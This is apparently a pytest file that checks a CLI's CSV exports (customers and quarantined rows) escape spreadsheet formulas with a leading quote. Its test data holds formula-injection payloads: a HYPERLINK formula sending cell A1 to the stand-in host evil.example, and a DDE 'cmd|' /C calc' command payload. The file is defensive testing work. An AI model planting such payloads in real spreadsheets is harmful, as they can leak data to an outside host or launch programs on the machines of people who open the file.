"""The CLI's CSV exports escape spreadsheet formulas as the API and the pages do: one export path, one rule."""

from __future__ import annotations

import csv

from typer.testing import CliRunner

from companies import bgnbd_orders
from patron.cli.app import app, register

register()
runner = CliRunner()
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(1+1)"]


def run(*args, store):
    return runner.invoke(app, [*args, "--store", str(store)], catch_exceptions=False)


def _cells(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_cli_exports_escape_formulas(tmp_path, engine_url):
    parties = tmp_path / "parties.csv"
    with open(parties, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["customer_id", "name", "email"])
        for i, name in enumerate(FORMULAS * 5):
            w.writerow([f"C{i}", name, f"c{i}@example.com"])
    orders = tmp_path / "orders.csv"
    orders.write_text("customer_id,date,amount\n" + "".join(bgnbd_orders(120, 4)) + '=HYPERLINK("http://evil.example"),not a date,5\n')
    assert run("import", "parties", str(parties), store=engine_url).exit_code == 0
    assert run("import", "transactions", str(orders), store=engine_url).exit_code == 0
    assert run("analyze", store=engine_url).exit_code == 0

    out = tmp_path / "customers.csv"
    r = run("customers", "--export", str(out), "--without-consent", "mark", store=engine_url)
    assert r.exit_code == 0 and "Wrote 120 customers" in r.stdout
    cells = _cells(out)
    for formula in FORMULAS:
        assert "'" + formula in cells
    assert not [c for c in cells if c and (c[0] in "=+@" or (c[0] == "-" and not c[1:2].isdigit()))]
    assert "-2+3+cmd|x" not in cells  # a formula that starts like a number is still escaped

    q = tmp_path / "quarantine.csv"
    r = run("quarantine", "--export", str(q), store=engine_url)
    assert r.exit_code == 0 and "Wrote 1 quarantined rows" in r.stdout
    with open(q, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 1 and rows[0]["Raw line"].startswith("'=HYPERLINK(")
    assert rows[0]["Line"] == str(len(bgnbd_orders(120, 4)) + 2)  # the header, the orders, then the bad line
